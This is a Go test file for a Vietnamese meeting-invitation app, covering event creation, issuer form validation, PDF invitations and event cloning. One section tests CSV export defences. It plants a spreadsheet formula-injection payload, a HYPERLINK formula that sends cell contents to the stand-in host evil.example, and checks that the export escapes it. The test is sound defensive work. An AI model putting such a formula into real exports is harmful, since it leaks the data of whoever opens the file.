package web_test

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/csv"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/dieuphoi/dieuphoi/domain"
	"github.com/dieuphoi/dieuphoi/papers/paperstest"
)

// An event created in the console takes the served event's issuer (its
// number left for the clerk), edited on the form; a clone keeps its
// source's; both print their invitations.
func TestConsoleEventsPrintInvitations(t *testing.T) {
	w := newWorld(t)
	ctx := context.Background()
	w.ev.Issuer = domain.Issuer{Parent: "UBND TỈNH HƯNG YÊN", Body: "SỞ KHOA HỌC VÀ CÔNG NGHỆ", Number: "88/GM-SKHCN",
		Place: "Hưng Yên", Date: time.Date(2026, 7, 1, 0, 0, 0, 0, ict), SignerTitle: "GIÁM ĐỐC", SignerName: "Trần Tùng Chuẩn",
		Recipients: []string{"Như trên", "Lưu: VT"}}
	c := w.signIn(t, "S001")

	// The form comes filled with the served event's issuer, without its
	// number.
	_, body := c.get("/admin/events")
	mustContain(t, body, `name="issuer_body" value="SỞ KHOA HỌC VÀ CÔNG NGHỆ"`, `name="issuer_number" value="/GM-SKHCN"`,
		`name="signer_name" value="Trần Tùng Chuẩn"`, `name="issuer_place" value="Hưng Yên"`)

	form := func(edit func(url.Values)) url.Values {
		f := url.Values{"code": {"HD2026"}, "name_vi": {"Hội đồng tư vấn xác định nhiệm vụ"}, "date": {"2026-08-20"},
			"start": {"14:00"}, "end": {"16:30"}, "venue": {"Phòng họp tầng 3"}, "cutoff": {"2026-08-18T12:00"},
			"agenda": {"14:00-16:00 Thẩm định thuyết minh | Chủ tịch Hội đồng"}, "agency": {"SKHCN"}, "role": {"delegate"},
			"issuer_parent": {"UBND TỈNH HƯNG YÊN"}, "issuer_body": {"SỞ KHOA HỌC VÀ CÔNG NGHỆ"}, "issuer_number": {"/GM-SKHCN"},
			"issuer_place": {"Hưng Yên"}, "signer_name": {"Nguyễn Thị Phó"}, "signer_title": {"PHÓ GIÁM ĐỐC"},
			"signer_authority": {"KT. GIÁM ĐỐC"}}
		edit(f)
		return f
	}
	for _, tc := range []struct {
		name string
		edit func(url.Values)
		want string
	}{
		{"a number that is not one", func(f url.Values) { f.Set("issuer_number", "GM 12") }, "Số/ký hiệu"},
		{"a signer without a name", func(f url.Values) { f.Set("signer_name", " ") }, "Người ký: chưa nhập"},
		{"a body too long for the letter", func(f url.Values) { f.Set("issuer_body", strings.Repeat("Sở ", 60)) }, "Cơ quan ban hành: dài quá"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			resp := c.post("/admin/events", form(tc.edit))
			body := read(t, resp)
			if resp.StatusCode != http.StatusUnprocessableEntity {
				t.Fatalf("%d", resp.StatusCode)
			}
			mustContain(t, body, `id="event-errors"`, tc.want)
			if _, err := w.store.Event(ctx, "hd2026"); err == nil {
				t.Error("a refused form made the event")
			}
		})
	}
	resp := c.post("/admin/events", form(func(url.Values) {}))
	resp.Body.Close()
	if resp.StatusCode != http.StatusSeeOther {
		t.Fatalf("create: %d", resp.StatusCode)
	}
	rec, err := w.store.Event(ctx, "hd2026")
	if err != nil {
		t.Fatal(err)
	}
	if is := rec.Event.Issuer; is.SignerName != "Nguyễn Thị Phó" || is.SignerAuthority != "KT. GIÁM ĐỐC" || is.Number != "/GM-SKHCN" ||
		!is.Date.IsZero() || len(is.Recipients) != 2 {
		t.Errorf("the created event's issuer: %+v", is)
	}

	pdf := func(path string) string {
		t.Helper()
		resp := c.do("GET", path, nil, "")
		data := read(t, resp)
		if resp.StatusCode != 200 || resp.Header.Get("Content-Type") != "application/pdf" {
			t.Fatalf("%s: %d\n%.300s", path, resp.StatusCode, data)
		}
		return paperstest.Write(t, []byte(data))
	}
	text := paperstest.Collapse(strings.Join(paperstest.Text(t, pdf("/admin/papers/invitation.pdf?person=P001&event=hd2026")), " "))
	mustContain(t, text, "GIẤY MỜI", "Kính gửi: Đồng chí Nguyễn Văn An", "hội đồng tư vấn xác định nhiệm vụ", "Phòng họp tầng 3",
		"Số: /GM-SKHCN", "KT. GIÁM ĐỐC", "PHÓ GIÁM ĐỐC", "Nguyễn Thị Phó", "Hưng Yên, ngày 20 tháng 7 năm 2026")

	// The event's archive: a substitute's details typed as a formula are
	// written as text (the same guard as the campaign archive's).
	w.apply(t, domain.SaveRSVP{RSVP: domain.RSVP{PersonID: "P001", EventID: "hd2026", Status: domain.RSVPSubstitute, Channel: domain.Telegram,
		Substitute: &domain.Substitute{Name: `=HYPERLINK("http://evil.example/?"&A1,"Xem")`, Position: "+Chuyên viên", Phone: "0944000333"}}})
	resp = c.do("GET", "/admin/events/hd2026/archive.zip", nil, "")
	raw := read(t, resp)
	if resp.StatusCode != 200 {
		t.Fatalf("archive: %d", resp.StatusCode)
	}
	zr, err := zip.NewReader(bytes.NewReader([]byte(raw)), int64(len(raw)))
	if err != nil {
		t.Fatal(err)
	}
	var answers [][]string
	for _, f := range zr.File {
		if f.Name != "tra-loi.csv" {
			continue
		}
		rc, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		answers, err = csv.NewReader(rc).ReadAll()
		rc.Close()
		if err != nil {
			t.Fatal(err)
		}
	}
	if len(answers) != 2 || answers[1][3] != `'=HYPERLINK("http://evil.example/?"&A1,"Xem")` || answers[1][4] != "'+Chuyên viên" {
		t.Errorf("the archive's answers: %q", answers)
	}

	// The clone keeps the source's issuer.
	resp = c.post("/admin/events/hd2026/clone", url.Values{"code": {"HD2026B"}, "date": {"2026-09-10"}})
	resp.Body.Close()
	if resp.StatusCode != http.StatusSeeOther {
		t.Fatalf("clone: %d", resp.StatusCode)
	}
	text = paperstest.Collapse(strings.Join(paperstest.Text(t, pdf("/admin/papers/invitation.pdf?person=P001&event=hd2026b")), " "))
	mustContain(t, text, "Kính gửi: Đồng chí Nguyễn Văn An", "Nguyễn Thị Phó", "KT. GIÁM ĐỐC", "thứ Năm, 10/09/2026")

	// An event made before events had an issuer: its clone takes the
	// served event's.
	old := rec
	old.Event.ID, old.Code, old.Event.Issuer = "old", "OLD", domain.Issuer{}
	if _, err := w.store.ImportEvent(ctx, old, w.clock()); err != nil {
		t.Fatal(err)
	}
	if code, _ := c.get("/admin/papers/invitation.pdf?person=P001&event=old"); code != http.StatusConflict {
		t.Errorf("an event without an issuer printed: %d", code)
	}
	resp = c.post("/admin/events/old/clone", url.Values{"code": {"NEW"}, "date": {"2026-09-11"}})
	resp.Body.Close()
	text = paperstest.Collapse(strings.Join(paperstest.Text(t, pdf("/admin/papers/invitation.pdf?person=P001&event=new")), " "))
	mustContain(t, text, "Trần Tùng Chuẩn", "Số: /GM-SKHCN")
}
